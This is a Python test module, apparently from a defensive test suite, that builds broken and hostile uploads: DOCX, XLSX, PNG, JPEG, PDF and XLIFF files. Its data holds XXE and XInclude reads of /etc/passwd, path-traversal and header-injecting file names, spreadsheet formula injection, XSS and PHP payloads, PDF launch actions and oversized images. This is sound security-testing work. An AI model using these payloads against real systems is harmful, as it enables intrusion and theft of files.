"""Sound files broken in each way at each place, for every door that takes files."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image

from tests.hostile.case import LAW, word_parts, zipped
from tests.hostile.others import PIXEL
from tests.hostile.portable import page
from tests.word import docx

WAYS: Mapping[str, Callable[[bytes], bytes]] = {
    "empty": lambda _part: b"",
    "cut": lambda part: part[: len(part) // 2],
    "with zeros": lambda part: part + bytes(9),
    "another root": lambda _part: b'<?xml version="1.0"?><other/>',
    "with an entity": lambda part: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + part,
    "deep": lambda _part: b"<a>" * 4_000 + b"</a>" * 4_000,
    "in no letters": lambda part: part.replace(b"<", b"<\xff\xfe\xc3\x28", 3),
    "no XML": lambda _part: b"root:x:0:0:root:/root:/bin/bash",
    "twice": lambda part: part + part,
}
WORD_PARTS = (
    "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
    "word/settings.xml", "word/numbering.xml", "docProps/core.xml", "customXml/item1.xml",
)  # fmt: skip
NAMES = (
    "../../../etc/cron.d/x.docx", "..\\..\\x.docx", "/etc/passwd", "C:\\Windows\\x.docx", "CON.docx",
    "NUL", "aux.txt.docx", "x.docx.exe", "x.pdf.html.docx", "x.docx\0.html", "x\r\nSet-Cookie: a=b.docx",
    "d" * 300 + ".docx", "ế" * 150 + ".docx", "\u202excod.exe", "\u2066x\u2069.docx", "\ud800.docx",
    "<script>alert(1)</script>.docx", "x\" onload=alert(1) a=\".docx", "", ".", "..docx", "~$x.docx",
    "x.docx:stream", "\\\\server\\share\\x.docx", "%2e%2e%2fx.docx", "=cmd|' /C calc'!A0.docx",
)  # fmt: skip
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ACTIONS = {
    "script when opened": b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
    "program when opened": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
    "form sent when opened": b"/OpenAction<</S/SubmitForm/F(http://x.example/)>>",
    "address when opened": b"/OpenAction<</S/URI/URI(http://x.example/)>>",
    "other file when opened": b"/OpenAction<</S/GoToR/F(\\\\\\\\server\\\\share)/D[0/Fit]>>",
    "script when closed": b"/AA<</WC<</S/JavaScript/JS(1)>>>>",
    "script by name": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>",
    "file carried": b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)>>]>>>>",
    "form of XML": b"/AcroForm<</XFA[(a)(b)]/Fields[]>>",
    "who made it": b"/Metadata 6 0 R/PieceInfo<</a<</b 1>>>>",
}


@dataclass(frozen=True)
class Broken:
    """A file for one of the doors; nothing is said of what becomes of it but that it harms nobody."""

    name: str
    data: bytes
    filename: str


def parts(whole: Mapping[str, bytes], names: tuple[str, ...], ending: str) -> Iterator[Broken]:
    """Each part in each way, and each left out."""
    for name in names:
        for way, change in WAYS.items():
            data = zipped({**whole, name: change(whole[name])}, stored=tuple(whole))
            yield Broken(f"{ending}: {name} {way}", data, f"x.{ending}")
        without = {one: part for one, part in whole.items() if one != name}
        yield Broken(f"{ending}: no {name}", zipped(without, stored=tuple(whole)), f"x.{ending}")


def cut(data: bytes, marks: bytes, ending: str) -> Iterator[Broken]:
    """The file up to each place where something of it begins."""
    for found in re.finditer(marks, data, re.DOTALL):
        if found.start():
            yield Broken(f"{ending} cut at {found.start()}", data[: found.start()], f"x.{ending}")


def workbook() -> dict[str, bytes]:
    """The parts of a sound workbook."""
    book, kept = Workbook(), io.BytesIO()
    for row in (["Điều", "Góp ý"], ["1", "Nước sạch"], ["2", "=HYPERLINK(1)"]):
        book.active.append(row)
    book.save(kept)
    with zipfile.ZipFile(kept) as package:
        return {name: package.read(name) for name in package.namelist()}


def picture(kind: bytes, content: bytes) -> bytes:
    """A picture of one dot with one piece more, whose sum is right."""
    piece = struct.pack(">L", len(content)) + kind + content
    piece += struct.pack(">L", zlib.crc32(kind + content))
    return PIXEL[:33] + piece + PIXEL[33:]


def huge(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0)
    return PIXEL[:12] + head + struct.pack(">L", zlib.crc32(head)) + PIXEL[33:]


def photograph() -> bytes:
    """One dot, as cameras keep it, with a place where it was taken."""
    kept = io.BytesIO()
    place = Image.Exif()
    place[0x8825] = {1: "N", 2: (16.0, 3.0, 0.0)}
    Image.new("RGB", (1, 1)).save(kept, "JPEG", exif=place)
    return kept.getvalue()


def drafts() -> Iterator[Broken]:
    """For the door of drafts."""
    whole = word_parts()
    yield from parts(whole, WORD_PARTS, "docx")
    small = {name: whole[name] for name in WORD_PARTS}
    yield from cut(zipped(small), rb"PK\x01\x02|PK\x03\x04|PK\x05\x06", "docx")
    for number, name in enumerate(NAMES):
        yield Broken(f"name {name[:30]!a}", docx(f"{LAW}{number}"), name)
    yield Broken("EICAR", EICAR, "x.docx")
    yield Broken("EICAR as letters", EICAR, "x.txt")


def attachments() -> Iterator[Broken]:
    """For the door of files that come with a comment."""
    yield from cut(PIXEL, rb"....(?=IHDR|IDAT|IEND)|(?<=IHDR)", "png")
    yield from cut(photograph(), rb"\xff[\xc0-\xfe]", "jpg")
    yield from cut(page(), rb"\d 0 obj|stream|endobj|xref|trailer|startxref|%%EOF", "pdf")
    for name, entry in ACTIONS.items():
        yield Broken(f"pdf: {name}", page(catalogue=entry), "x.pdf")
    for kind in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP", b"PLTE", b"acTL", b"abCD"):
        yield Broken(f"png: {kind.decode()}", picture(kind, b"Author\0root:x:0\0\0\0"), "x.png")
    for width, height in ((0, 0), (1, 0), (2**31 - 1, 1), (60_000, 60_000), (6_001, 6_700)):
        yield Broken(f"png: {width} to {height}", huge(width, height), "x.png")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for number, ending in enumerate(("svg", "png", "jpg", "pdf", "docx")):
        yield Broken(f"drawing as {ending}", svg + bytes([32]) * number, f"x.{ending}")
        page_ = b"<!DOCTYPE html><script>alert(1)</script>" + bytes([32]) * number
        yield Broken(f"page as {ending}", page_, f"x.{ending}")
        yield Broken(f"picture, then a page, as {ending}", PIXEL + page_, f"x.{ending}")


def sheets() -> Iterator[Broken]:
    """For the doors of tables."""
    whole = workbook()
    inner = tuple(name for name in whole if "theme" not in name and "app" not in name)
    yield from parts(whole, inner, "xlsx")
    yield from cut(zipped(whole), rb"PK\x01\x02|PK\x03\x04|PK\x05\x06", "xlsx")


UNIT = '<unit id="p1"><segment><source>Nước</source><target>{}</target></segment></unit>'
XLIFF = (
    '<?xml version="1.0"?><xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" '
    'srcLang="vi" trgLang="en"><file id="f" original="dossier:x">{}</file></xliff>'
)
TARGETS = (
    "<script>alert(1)</script>", "&#x202e;gnp.exe", '<cp hex="D800"/>', '<cp hex="110000"/>',
    '<cp hex="0"/>', '<cp hex="-1"/>', '<cp hex="ffffffffffff"/>', "<pc id='1'>" * 900,
    "<pc id='1'>" * 900 + "</pc>" * 900, "<mrk ref='javascript:alert(1)'>x</mrk>", "<![CDATA[<b>]]>",
    "<?php system('id') ?>", "<!-- x -->", "&unknown;", "&#0;", "=cmd|' /C calc'!A0", "e" * 200_000,
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
    "<ph id='1' dataRef='d'/>", "\u0300" * 5_000,
)  # fmt: skip


def xliff() -> Iterator[Broken]:
    """For the door of translations."""
    whole = XLIFF.format(UNIT.format("Water")).encode()
    for way, change in WAYS.items():
        yield Broken(f"xlf {way}", change(whole), "x.xlf")
    yield from cut(whole, rb"<", "xlf")
    for target in TARGETS:
        yield Broken(f"xlf: {target[:30]!a}", XLIFF.format(UNIT.format(target)).encode(), "x.xlf")
    for encoding in ("utf-16", "utf-32", "utf-7", "cp1258"):
        head = whole.decode().replace("?>", f' encoding="{encoding}"?>', 1)
        yield Broken(f"xlf in {encoding}", head.encode(encoding, "replace"), "x.xlf")
